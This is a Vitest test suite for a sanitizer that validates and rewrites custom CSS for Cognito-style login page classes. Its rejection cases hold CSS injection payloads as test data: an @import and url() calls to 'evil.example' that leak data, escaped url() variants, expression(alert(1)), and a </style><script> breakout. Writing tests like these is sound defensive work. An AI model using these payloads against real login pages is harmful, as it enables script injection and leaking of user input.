import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readClassicCss } from "./classic-css.ts";
import { classicClasses } from "./style-sheet.ts";

const inRule = (declaration: string) => `.banner-customizable { ${declaration} }`;
const refusalOf = (css: string): string => {
  try {
    readClassicCss(css);
  } catch (error) {
    return (error as Error).message;
  }
  return "";
};

describe("the CSS of classic pages", () => {
  it("is written anew, each rule above the pages' own", () => {
    const css = `/* a
      comment */
.submitButton-customizable:hover,.submitButton-customizable{color:#fff;;
  Background-Color : rgba( 0, 0 , 0, .5 ) ! important}
.label-customizable { font-family: "Open Sans", 'Ünï', sans-serif; margin: 20px -15px 10% -13px }`;
    expect(
      readClassicCss(css),
    ).toBe(`:root .submitButton-customizable:hover, :root .submitButton-customizable {
  color: #fff;
  background-color: rgba( 0, 0 , 0, .5 ) ! important;
}
:root .label-customizable {
  font-family: "Open Sans", 'Ünï', sans-serif;
  margin: 20px -15px 10% -13px;
}
`);
  });

  it("may name all of Cognito's classes, in the states that AWS lists", () => {
    for (const name of Object.keys(classicClasses))
      expect(refusalOf(`.${name} { color: red }`)).toBe("");
    for (const name of ["idpButton-customizable:hover", "inputField-customizable:focus"]) {
      expect(refusalOf(`.${name} { color: red }`)).toBe("");
    }
  });

  it.each([
    "font: 400 11px/1.5 system-ui, sans-serif",
    "background: linear-gradient(45deg, #fff 0%, rgb(0 0 0 / 50%) 100%)",
    "border: 2px solid #D64958",
    "width: calc(100% - (2 * 1rem))",
    "-webkit-appearance: none",
    "transform: rotate(-3deg)",
    "padding: 0",
  ])("may say %s", (declaration) => {
    expect(refusalOf(inRule(declaration))).toBe("");
  });

  it("may be empty, or nothing but a comment", () => {
    for (const css of ["", " \n", "/* url(x) */", ".banner-customizable {}"]) {
      expect(readClassicCss(css)).not.toContain("url");
    }
  });

  it.each([
    ["an import", "@import 'https://evil.example/a.css';"],
    ["an import with an escape", "@\\69mport 'x';"],
    ["a media rule", `@media screen { ${inRule("color: red")} }`],
    ["a font", "@font-face { font-family: x; src: url(x) }"],
    ["an address", inRule("background: url(https://evil.example/?leak)")],
    ["an address in capitals", inRule("background: URL('x')")],
    ["an address with an escape", inRule("background: u\\72l(x)")],
    ["an address with a comment in it", inRule("background: ur/**/l(x)")],
    ["an image", inRule("background: image-set('x' 1x)")],
    ["another image", inRule("background: image('x')")],
    ["a source", inRule("background: src('x')")],
    ["an element", inRule("background: element(#x)")],
    ["an expression", inRule("width: expression(alert(1))")],
    ["a binding", inRule("-moz-binding: url(x)")],
    ["a filter", inRule("filter: progid:DXImageTransform.Microsoft.Alpha(opacity=1)")],
    ["an attribute", inRule("width: attr(value px)")],
    ["a variable", inRule("color: var(--x)")],
    ["a variable's definition", inRule("--login-primary: red")],
    ["the end of the element", `${inRule("color: red")}</style><script>alert(1)</script>`],
    ["a tag in a string", inRule('content: "<b>"')],
    ["a brace in a string", inRule('content: "}"')],
    ["a semicolon in a string", inRule('content: ";"')],
    ["an escape in a string", inRule('content: "\\22"')],
    ["a string over two lines", inRule('content: "a\nb"')],
    ["an open string", inRule('content: "a')],
    ["another class", ".other { color: red }"],
    ["a class that objects have", ".constructor { color: red }"],
    ["an element's name", "body { color: red }"],
    ["everything", "* { color: red }"],
    ["a child", ".banner-customizable a { color: red }"],
    ["a neighbour", ".banner-customizable + form { color: red }"],
    ["an attribute of it", '.inputField-customizable[value^="a"] { color: red }'],
    ["a pseudo-class that tells secrets", ".inputField-customizable:valid { color: red }"],
    ["a pseudo-element", ".banner-customizable::before { color: red }"],
    ["has", ".banner-customizable:has(input) { color: red }"],
    ["no selector", "{ color: red }"],
    ["half a selector list", ".banner-customizable, { color: red }"],
    ["a nested rule", `.banner-customizable { ${inRule("color: red")} }`],
    ["an open rule", ".banner-customizable { color: red"],
    ["an open comment", ".banner-customizable { color: red } /*"],
    ["a rule that closes twice", `${inRule("color: red")} }`],
    ["no value", inRule("color:")],
    ["no property", inRule("red")],
    ["an open parenthesis", inRule("width: calc(1px")],
    ["a parenthesis too many", inRule("width: 1px)")],
    ["parentheses too deep", inRule(`width: ${"(".repeat(20)}1px${")".repeat(20)}`)],
    ["a control character", inRule("color: red\u0000")],
    ["a colon in a value", inRule("color: a:b")],
  ])("is refused with %s", (_what, css) => {
    expect(refusalOf(css)).toMatch(/^CSS is not valid in line 1: .{1,160}\.$/);
  });

  it("is refused with the line and what stands there", () => {
    expect(refusalOf(`/* one\n */\n\n${inRule("color: red")}\n\n.x { color: red }`)).toBe(
      "CSS is not valid in line 6: .x is not a class that can be customized.",
    );
    expect(refusalOf(".banner-customizable {\n  color: red;\n  background: url(x);\n}")).toBe(
      "CSS is not valid in line 3: background: url(x) is not allowed.",
    );
  });

  it("never lets anything out that it did not understand", () => {
    const piece = fc.constantFrom(
      ...[".banner-customizable", "{", "}", ";", ":", "color", "red", "url(", ")", "@import", "/*"],
      ...[
        "*/",
        "\\",
        '"',
        "'",
        "<",
        "\n",
        " ",
        ",",
        "(",
        "#fff",
        "1px",
        "--x",
        "</style>",
        "\u0000",
      ],
    );
    const text = fc.array(piece, { maxLength: 30 }).map((pieces) => pieces.join(""));
    fc.assert(
      fc.property(text, (css) => {
        let served = "";
        try {
          served = readClassicCss(css);
        } catch {
          return;
        }
        expect(served).toMatch(
          /^(?::root \.banner-customizable(?:, :root \.banner-customizable)* \{\n(?: {2}[a-z-]+: [^{};:<>@\\]+;\n)*\}\n)*$/,
        );
        expect(served).not.toMatch(/url|\\|@|<|\/\*/i);
      }),
      { numRuns: 2_000 },
    );
  });

  it("is read in time that grows with its length alone", () => {
    const long = [
      "a".repeat(131_072),
      `.${"a-".repeat(65_000)}{`,
      inRule(`color: ${"-".repeat(100_000)}`),
      inRule(`color: ${"a".repeat(100_000)}(`),
      inRule(`color: ${"1".repeat(100_000)}!`),
      inRule(`color: ${'"'.repeat(100_001)}`),
      "/*".repeat(65_000),
      "/* */".repeat(26_000),
      ".banner-customizable{}".repeat(5_900),
      inRule("color: red;".repeat(11_000)),
    ];
    for (const css of long) refusalOf(css);
  }, 10_000);
});
